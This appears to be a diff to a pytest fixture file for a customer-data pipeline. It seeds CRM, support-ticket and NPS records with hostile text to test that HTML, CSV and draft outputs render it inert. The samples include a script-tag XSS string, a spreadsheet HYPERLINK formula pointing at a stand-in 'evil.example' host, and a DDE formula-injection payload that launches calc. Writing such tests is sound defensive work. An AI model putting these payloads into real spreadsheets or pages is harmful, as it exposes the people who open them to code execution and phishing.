@@ -118,8 +118,52 @@ def demo_dirs(
     mp.undo()
 
 
+# What CS-facing outputs must render inert (HTML, CSV, drafts); {id} makes each unique
+HOSTILE_TEXTS = (
+    '<script>alert("{id}")</script> & Co',
+    '=HYPERLINK("http://evil.example/{id}","click")',
+    "+{id} cmd|' /C calc'!A0",
+    "-{id}+1",
+    "@SUM({id})",
+    'Quote "{id}" O\'Brien; \n second line',
+    "\u202eevil {id} \u202c Ltd",
+    "Long {id} " + "x" * 3000,
+)
+
+
 @pytest.fixture(scope="session")
-def row_faults(demo_dirs: PipelineDirs) -> dict[str, InjectedFault]:
+def hostile_accounts(demo_dirs: PipelineDirs) -> dict[str, str]:
+    """Every eighth account of the newest CRM export gets a hostile company and contact
+    name, and its newest tickets and NPS answers hostile text (before the nightly run)."""
+    import pandas as pd
+
+    newest = sorted((demo_dirs.landing / "accounts").glob("*.csv"))[-1]
+    crm = pd.read_csv(newest, dtype=str, keep_default_na=False)
+    chosen = crm.index[::8]
+    names = {
+        crm.at[i, "account_id"]: HOSTILE_TEXTS[n % len(HOSTILE_TEXTS)].format(
+            id=crm.at[i, "account_id"]
+        )
+        for n, i in enumerate(chosen)
+    }
+    crm["company_name"] = crm["account_id"].map(names).fillna(crm["company_name"])
+    crm.loc[chosen, "contact_name"] = [names[a] for a in crm.loc[chosen, "account_id"]]
+    crm.to_csv(newest, index=False)
+    tickets_file = sorted((demo_dirs.landing / "support_tickets").glob("*.jsonl"))[-1]
+    tickets = pd.read_json(tickets_file, lines=True, dtype=False)
+    hit = tickets["account_id"].isin(names)
+    tickets.loc[hit, "subject"] = tickets.loc[hit, "account_id"].map(names)
+    tickets.to_json(tickets_file, orient="records", lines=True, date_format="iso")
+    nps_file = sorted((demo_dirs.landing / "nps_responses").glob("*.csv"))[-1]
+    nps = pd.read_csv(nps_file, dtype=str, keep_default_na=False)
+    hit = nps["account_id"].isin(names)
+    nps.loc[hit, "comment"] = nps.loc[hit, "account_id"].map(names)
+    nps.to_csv(nps_file, index=False)
+    return names
+
+
+@pytest.fixture(scope="session")
+def row_faults(demo_dirs: PipelineDirs, hostile_accounts) -> dict[str, InjectedFault]:
     faults = inject_faults(demo_dirs.landing, list(ROW_FAULTS), demo_dirs.late)
     return {f.kind: f for f in faults}
 
